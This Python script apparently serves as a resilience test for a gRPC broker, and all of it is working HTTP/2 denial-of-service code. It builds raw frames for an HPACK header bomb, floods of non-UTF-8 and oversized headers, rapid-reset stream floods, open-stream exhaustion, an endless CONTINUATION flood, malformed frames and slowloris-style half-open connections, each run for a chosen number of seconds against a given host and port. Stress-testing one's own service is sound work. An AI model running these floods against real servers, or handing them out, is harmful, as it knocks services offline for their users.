"""Attacks on a broker's port, each for some seconds: python hostile.py ATTACK HOST:PORT SECONDS.

A program of its own, so that what it costs is not measured as the broker's, or as a good client's.
"""

import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator
from functools import partial

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
ACK, END_HEADERS = 1, 4
METHOD = "/qbroker.v1.Producer/Publish"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame as it travels."""
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes((kind, flags))
        + struct.pack(">I", stream)
        + payload
    )


def request(encoder: hpack.Encoder, *more: tuple[str, str]) -> bytes:
    """The headers of a publish stream."""
    plain = (
        (":method", "POST"),
        (":scheme", "http"),
        (":path", METHOD),
        (":authority", "broker"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    )
    block: bytes = encoder.encode([*plain, *more])
    return block


def bomb() -> Iterator[bytes]:
    """One large header in the dynamic table, then thousands of references to it in each request."""
    encoder = hpack.Encoder()
    block = request(encoder, ("x-bomb", "b" * 3_900))
    # The newest entry of the dynamic table has the index 62.
    again = request(encoder) + bytes((0x80 | 62,)) * 8_000
    yield frame(HEADERS, END_HEADERS, 1, block)
    stream = 3
    while True:
        yield frame(HEADERS, END_HEADERS, stream, again)
        stream += 2


def binary() -> Iterator[bytes]:
    """Requests whose headers are no text, which gRPC would log one by one, and references to a large one."""
    encoder = hpack.Encoder()
    # A literal that enters the table: x-bad, and 3,900 bytes of which none is valid UTF-8.
    literal = b"\x40\x05x-bad\x7f\xbd\x1d" + b"\xff" * 3_900
    yield frame(HEADERS, END_HEADERS, 1, request(encoder) + literal)
    small = b"\x00\x05x-bad\x7f\x81\x01" + b"\xff" * 256
    stream = 3
    while True:
        yield frame(HEADERS, END_HEADERS, stream, request(encoder) + small * 16)
        stream += 2


def large() -> Iterator[bytes]:
    """Many large headers that are no reference to anything."""
    encoder = hpack.Encoder()
    stream = 1
    while True:
        block = request(encoder, *[(f"x-{stream}-{n}", "v" * 3_900) for n in range(4)])
        yield frame(HEADERS, END_HEADERS, stream, block[:16_384])
        stream += 2


def reset() -> Iterator[bytes]:
    """Requests that are reset at once."""
    encoder = hpack.Encoder()
    stream = 1
    while True:
        yield frame(HEADERS, END_HEADERS, stream, request(encoder)) + frame(
            RST_STREAM, 0, stream, struct.pack(">I", 8)
        )
        stream += 2


def streams() -> Iterator[bytes]:
    """Streams that are left open, up to 20,000 a connection."""
    encoder = hpack.Encoder()
    for stream in range(1, 40_000, 2):
        yield frame(HEADERS, END_HEADERS, stream, request(encoder))


def continuation() -> Iterator[bytes]:
    """A request whose headers never end."""
    encoder = hpack.Encoder()
    yield frame(HEADERS, 0, 1, request(encoder))
    while True:
        # A literal that enters no table.
        yield frame(CONTINUATION, 0, 1, (b"\x00\x05x-aaa\x7f\x81\x01" + b"c" * 256) * 32)


def garbage() -> Iterator[bytes]:
    """Frames of kinds and lengths that nobody knows."""
    while True:
        yield frame(0x42, 0xFF, 2**31 - 1, b"\xff" * 64)


ATTACKS: dict[str, Callable[[], Iterator[bytes]]] = {
    attack.__name__: attack
    for attack in (bomb, binary, large, reset, streams, continuation, garbage)
}

BEGINNINGS = (
    b"",
    PREFACE[:7],
    PREFACE,
    PREFACE + b"\x00\x00",
    PREFACE + frame(SETTINGS, 0, 0),
)
"""Connections that say so much and no more; the last one is valid, and never makes a call."""


def halves(address: tuple[str, int], until: float) -> None:
    """Keep connections open that never get to a call, 150 at once."""
    peers: list[socket.socket] = []
    for number in range(150):
        try:
            peer = socket.create_connection(address, 5)
            peer.sendall(BEGINNINGS[number % len(BEGINNINGS)])
        except OSError:
            continue
        peers.append(peer)
    time.sleep(max(0.0, until - time.monotonic()))
    for peer in peers:
        peer.close()


def attack_with(name: str, acknowledges: bool, address: tuple[str, int], until: float) -> None:
    """Send what the attack makes over connection after connection.

    gRPC applies its bounds on headers and streams once the peer acknowledges its settings.
    """
    while time.monotonic() < until:
        try:
            with socket.create_connection(address, 5) as peer:
                peer.sendall(PREFACE + frame(SETTINGS, 0, 0))
                if acknowledges and peer.recv(65_536):
                    peer.sendall(frame(SETTINGS, ACK, 0))
                threading.Thread(target=swallow, args=(peer,), daemon=True).start()
                for piece in ATTACKS[name]():
                    peer.sendall(piece)
                    if time.monotonic() > until:
                        return
                time.sleep(max(0.0, until - time.monotonic()))
        except OSError:
            # The broker closed it, as it should; come again, but not in a loop that only connects.
            time.sleep(0.01)


def swallow(peer: socket.socket) -> None:
    """Read what the broker says, so that it is never held up."""
    try:
        while peer.recv(65_536):
            pass
    except OSError:
        return


def main(name: str, address: str, seconds: float) -> None:
    """Attack over two connections at once, of which one acknowledges the broker's settings."""
    host, _, port = address.rpartition(":")
    until = time.monotonic() + seconds
    deeds: list[Callable[[tuple[str, int], float], None]] = [halves] * 2
    if name != "halves":
        deeds = [partial(attack_with, name, acknowledges) for acknowledges in (False, True)]
    threads = [threading.Thread(target=deed, args=((host, int(port)), until)) for deed in deeds]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], float(sys.argv[3]))
